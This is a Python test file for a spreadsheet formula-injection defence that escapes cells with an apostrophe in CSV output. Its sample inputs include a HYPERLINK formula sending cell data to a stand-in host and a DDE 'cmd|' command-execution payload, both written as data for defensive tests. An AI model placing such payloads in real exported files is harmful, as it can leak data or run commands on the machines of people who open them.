"""What a spreadsheet would compute gets an apostrophe; all else stays, and the rule can be undone."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pyarrow as pa
import pyarrow.csv
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from features.files.outputs import join_parts
from features.files.spreadsheets import HarmlessTables, harmless

FORMULAS = (
    '=HYPERLINK("http://elsewhere.example?x="&A1,"click")', "=1+1", "+1+1", "-1+1", "@SUM(1)", "=",
    "-2+3+cmd|' /C calc'!A0", "\t=1", "\ttext", "\rtext", "\n=1", "  =1", "\u00a0=1", "\u3000=1", "\ufeff=1",
    "\u200b=1", "+49 170 123", "-", "-a", "＝1+1", "＋1", "－1", "＠x", " ＝1", "-1.5\n=1", "-1\n",
    "-1,5", "-0x5", "'=1+1", "''@x",
)  # fmt: skip
PLAIN = (
    "", "a", "a=b", "1", "-1", "-1.5", "+1.5", "-.5", "-1.", "-1e-5", "+1E6", "'", "'text", "''", " text",
    "x\t=1", "(=1)", '"=1"', "Grüße", "#REF!", "http://a.example/?x=1",
)  # fmt: skip


def undone(text: str) -> str:
    """The rule, turned round as the documentation says."""
    return text[1:] if text.startswith("'") and harmless(text) != text else text


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_begins_with_an_apostrophe(text: str) -> None:
    assert harmless(text) == f"'{text}"
    assert undone(harmless(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_none_stays(text: str) -> None:
    assert harmless(text) == text
    assert undone(text) == text


@given(st.text(alphabet="='+-@ \t\r\n1.a＝\u00a0"))
def test_texts_are_told_apart_as_before(text: str) -> None:
    assert undone(harmless(text)) == text
    assert not re.match(r"\s*[=@]", harmless(text))


@pytest.mark.parametrize("kind", [pa.string(), pa.large_string(), pa.dictionary(pa.int32(), pa.string())])
def test_tables_as_texts_one_by_one(kind: pa.DataType) -> None:
    texts = [*FORMULAS, None, *PLAIN]
    plain = pa.chunked_array([pa.array(texts[:10]), pa.array(texts[10:], pa.string())])
    disarmed = HarmlessTables()
    made = disarmed.table(pa.table({"=id": plain.cast(kind), "number": pa.array([-1.5] * len(texts))}))
    assert made.column_names == ["'=id", "number"]
    assert made["'=id"].to_pylist() == [None if text is None else harmless(text) for text in texts]
    assert made["number"].to_pylist() == [-1.5] * len(texts)
    assert disarmed.cells == len(FORMULAS)
    assert made.schema == disarmed.schema(pa.schema([("=id", kind), ("number", pa.float64())]))


@pytest.mark.parametrize(
    ("name", "first"), [("a.csv", "'=1"), ("a.csv.gz", "'=1"), ("a.jsonl", "=1"), ("a.parquet", "=1")]
)
def test_only_csv_is_for_spreadsheets(tmp_path: Path, name: str, first: str) -> None:
    part = tmp_path / "part.parquet"
    pq.write_table(pa.table({"id": ["=1", "b"], "=x": ["-1", "+a"]}), part)
    cells = join_parts([part], tmp_path / name)
    assert cells == (2 if ".csv" in name else 0)
    assert read(tmp_path / name)[0][0] == first
    assert join_parts([part], tmp_path / f"kept-{name}", "keep") == 0
    assert read(tmp_path / f"kept-{name}") == [["=1", "b"], ["-1", "+a"]]


def read(path: Path) -> list[list[str]]:
    """The columns of a file, as texts."""
    if path.suffix == ".parquet":
        table = pq.read_table(path)
    elif path.suffix == ".jsonl":
        table = pa.Table.from_pylist([json.loads(line) for line in path.read_text().splitlines()])
    else:
        convert = pyarrow.csv.ConvertOptions(column_types=dict.fromkeys(("id", "=x", "'=x"), pa.string()))
        table = pyarrow.csv.read_csv(path, convert_options=convert)
    return [column.to_pylist() for column in table.columns]
